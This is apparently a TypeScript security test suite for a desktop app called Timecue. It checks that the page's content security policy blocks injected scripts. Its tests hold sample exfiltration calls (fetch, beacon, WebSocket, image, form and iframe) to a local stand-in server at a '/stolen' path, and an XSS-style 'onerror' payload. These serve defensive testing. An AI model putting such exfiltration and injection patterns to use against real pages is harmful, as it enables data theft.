import { execFile, spawnSync } from 'node:child_process';
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { promisify } from 'node:util';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { launchBrowser } from '../helpers/browser.ts';
import { ServedWorkplace } from '../helpers/served-workplace.ts';
import { Workplace } from '../helpers/workplace.ts';

let browser: Browser;
let place: Workplace;
let served: ServedWorkplace;
let page: Page;
/** A stranger that would answer anybody. */
let stranger: Server;
let strangerRequests: string[] = [];
let strangerOrigin: string;

beforeAll(async () => {
  browser = await launchBrowser();
  place = await Workplace.make();
  served = await ServedWorkplace.open(place, browser);
  page = served.page;
  stranger = createServer((request, response) => {
    strangerRequests.push(`${request.method ?? ''} ${request.url ?? ''}`);
    response.setHeader('Access-Control-Allow-Origin', '*');
    response.setHeader('Content-Type', 'text/html');
    response.end('<!doctype html><title>stranger</title>');
  });
  await new Promise<void>((done) => stranger.listen(0, '127.0.0.1', done));
  strangerOrigin = `http://127.0.0.1:${String((stranger.address() as AddressInfo).port)}`;
});

afterAll(async () => {
  await served?.[Symbol.asyncDispose]();
  await place?.[Symbol.asyncDispose]();
  await browser?.close();
  stranger?.close();
});

beforeEach(() => {
  strangerRequests = [];
  served.complaints.length = 0;
});

const own = () => new URL(page.url()).origin;

describe('a script that got into the page', () => {
  test('finds nothing of Node or Electron', async () => {
    const found = await page.evaluate(() =>
      ['require', 'process', 'electron', 'module', 'Buffer', 'global', '__dirname', 'ipcRenderer'].filter(
        (name) => name in window,
      ),
    );
    expect(found).toEqual([]);
  });

  test.each([
    ['a fetch', (origin: string) => fetch(`${origin}/stolen`).then(() => 'sent')],
    [
      'a beacon',
      (origin: string) => {
        navigator.sendBeacon(`${origin}/stolen`, 'words');
        return new Promise((_resolve, reject) => setTimeout(() => reject(new Error('nothing came')), 500));
      },
    ],
    [
      'a WebSocket',
      (origin: string) =>
        new Promise((done, reject) => {
          const socket = new WebSocket(`${origin.replace('http', 'ws')}/stolen`);
          socket.onopen = () => done('sent');
          socket.onerror = () => reject(new Error('refused'));
        }),
    ],
    [
      'a picture',
      (origin: string) =>
        new Promise((done, reject) => {
          const image = new Image();
          image.onload = () => done('sent');
          image.onerror = () => reject(new Error('refused'));
          image.src = `${origin}/stolen.png`;
        }),
    ],
    [
      'a form',
      (origin: string) => {
        const form = document.createElement('form');
        form.action = `${origin}/stolen`;
        document.body.append(form);
        form.submit();
        form.remove();
        return new Promise((_resolve, reject) => setTimeout(() => reject(new Error('nothing came')), 500));
      },
    ],
    [
      'a frame',
      (origin: string) => {
        const frame = document.createElement('iframe');
        document.body.append(frame);
        frame.setAttribute('src', `${origin}/stolen`);
        return new Promise((_resolve, reject) =>
          setTimeout(() => {
            frame.remove();
            reject(new Error('nothing came'));
          }, 500),
        );
      },
    ],
  ])('sends nothing to a stranger with %s', async (_name, send) => {
    // The token is taken out of the address once the page has it.
    await page.waitForURL(({ hash }) => hash === '');
    const before = page.url();
    await expect(page.evaluate(send, strangerOrigin)).rejects.toThrow();
    expect(strangerRequests).toEqual([]);
    expect(page.url()).toBe(before);
    await expect.poll(() => served.complaints.join('\n')).toMatch(/policy: (connect|img|form-action|frame|default)/);
  });

  test.each([
    [
      'text of a script',
      'const s = document.createElement("script"); s.text = "window.broken = 1"; document.body.append(s)',
    ],
    ['a script in markup', 'document.body.innerHTML += "<img src=x onerror=\'window.broken = 1\'>"'],
    ['eval', 'eval("window.broken = 1")'],
    ['a Function', 'new Function("window.broken = 1")()'],
    ['a timer with text', 'setTimeout("window.broken = 1", 0)'],
  ])('runs nothing through %s', async (_name, code) => {
    // As a module of the page's own origin, where its policy holds; the debugger itself stands above it.
    const probe = `let outcome = 'ran'; try { ${code} } catch (error) { outcome = String(error); } export { outcome };`;
    await page.route('**/assets/probe.js*', (route) =>
      route.fulfill({ body: probe, contentType: 'text/javascript', headers: { 'Cache-Control': 'no-store' } }),
    );
    // As text: what compiles the tests would put its own import in place of the page's.
    const outcome = await page.evaluate<string>(
      `import('/assets/probe.js?${String(Math.random())}').then((module) => module.outcome)`,
    );
    await page.unroute('**/assets/probe.js*');
    await page.waitForTimeout(100);
    expect(outcome).not.toBe('ran');
    expect(await page.evaluate(() => 'broken' in window)).toBe(false);
  });

  test('runs no inline script and no handler of an attribute', async () => {
    const ran = await page.evaluate(async () => {
      const button = document.createElement('button');
      let isRefused = false;
      try {
        button.setAttribute('onclick', 'window.broken = 1');
      } catch {
        isRefused = true;
      }
      document.body.append(button);
      button.click();
      button.remove();
      await new Promise((done) => setTimeout(done, 50));
      return { isRefused, isBroken: 'broken' in window };
    });
    expect(ran.isBroken).toBe(false);
  });

  test('cannot be given another base, an object or a worker of its own', async () => {
    const outcome = await page.evaluate(async (origin) => {
      const base = document.createElement('base');
      base.href = `${origin}/`;
      document.head.append(base);
      const resolved = new URL('assets', document.baseURI).origin;
      base.remove();
      const object = document.createElement('object');
      document.body.append(object);
      let hasWorker = false;
      try {
        const url = URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }));
        const worker = new Worker(url as unknown as string);
        hasWorker = await new Promise((done) => {
          worker.onmessage = () => done(true);
          worker.onerror = () => done(false);
        });
      } catch {
        // Refused at once.
      }
      object.remove();
      return { resolved, hasWorker };
    }, strangerOrigin);
    expect(outcome).toEqual({ resolved: own(), hasWorker: false });
  });
});

describe('the page', () => {
  test('has no link that leads out of it', async () => {
    for (const name of ['library', 'search', 'selection', 'models', 'settings', 'help']) {
      await page.goto(`${own()}/#/${name}`);
      await page.getByRole('navigation', { name: 'Pages' }).waitFor();
      const hosts = await page.evaluate(() =>
        [...document.querySelectorAll('a[href], [target]')]
          .map((link) => new URL(link.getAttribute('href') ?? '', location.href).origin)
          .filter((origin) => origin !== location.origin),
      );
      expect([name, ...hosts]).toEqual([name]);
    }
  });

  test('is not left for a page that is dropped on it', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'timecue-drop-'));
    try {
      const dropped = join(folder, 'dropped.html');
      writeFileSync(dropped, '<!doctype html><title>dropped</title>');
      const before = page.url();
      const session = await page.context().newCDPSession(page);
      const data = { items: [], files: [dropped], dragOperationsMask: 1 };
      for (const type of ['dragEnter', 'dragOver', 'drop'] as const) {
        await session.send('Input.dispatchDragEvent', { type, x: 500, y: 20, data });
      }
      await page.waitForTimeout(500);
      expect(page.url()).toBe(before);
      expect(await page.title()).toContain('Timecue');
      expect(page.context().pages()).toHaveLength(1);
    } finally {
      rmSync(folder, { recursive: true });
    }
  });

  test('is shown in no frame of another page', async () => {
    const other = await browser.newPage();
    await other.goto(strangerOrigin);
    await other.evaluate((address) => {
      const frame = document.createElement('iframe');
      frame.src = address;
      document.body.append(frame);
    }, own());
    await other.waitForTimeout(500);
    const inner = other.frames().find((frame) => frame !== other.mainFrame())!;
    expect(await inner.evaluate(() => document.querySelector('#app') === null).catch(() => true)).toBe(true);
    await other.close();
  });

  test('is asked for no permission, and has none', async () => {
    const states = await page.evaluate(async () => {
      const position = await new Promise((done) =>
        navigator.geolocation.getCurrentPosition(
          () => done('given'),
          () => done('denied'),
        ),
      );
      const camera = await navigator.mediaDevices?.getUserMedia({ video: true }).then(
        () => 'given',
        () => 'denied',
      );
      return [position, camera ?? 'denied'];
    });
    expect(states).toEqual(['denied', 'denied']);
  });
});

describe('building the interface', () => {
  const run = promisify(execFile);
  const canUnshare = spawnSync('unshare', ['-rn', 'true']).status === 0;

  const buildArguments = (folder: string) => [
    resolve('node_modules/vite/bin/vite.js'),
    ...['build', '--config', 'build/vite.renderer.ts', '--logLevel', 'warn', '--outDir', folder],
  ];

  test.skipIf(!canUnshare)('works where there is no network at all', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'timecue-build-'));
    try {
      await run('unshare', ['-rn', process.execPath, ...buildArguments(folder)]);
      expect(readFileSync(join(folder, 'index.html'), 'utf8')).toContain('id="app"');
    } finally {
      rmSync(folder, { recursive: true });
    }
  });

  test('asks nobody, and what it builds names no foreign address to load from', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'timecue-build-'));
    try {
      const proxies = ['HTTP_PROXY', 'HTTPS_PROXY', 'http_proxy', 'https_proxy', 'ALL_PROXY'];
      const env = { ...process.env, ...Object.fromEntries(proxies.map((name) => [name, strangerOrigin])) };
      await run(process.execPath, buildArguments(folder), { env: { ...env, NODE_USE_ENV_PROXY: '1' } });
      expect(strangerRequests).toEqual([]);
      const html = readFileSync(join(folder, 'index.html'), 'utf8');
      expect(html).not.toMatch(/(src|href)="(https?:)?\/\//);
      expect(html).not.toMatch(/<script(?![^>]*src=)|<style|style=/);
      const styles = readdirSync(join(folder, 'assets')).filter((name) => name.endsWith('.css'));
      for (const name of styles) {
        expect(readFileSync(join(folder, 'assets', name), 'utf8')).not.toMatch(/@import|url\(["']?(https?:)?\/\//);
      }
    } finally {
      rmSync(folder, { recursive: true });
    }
  });
});
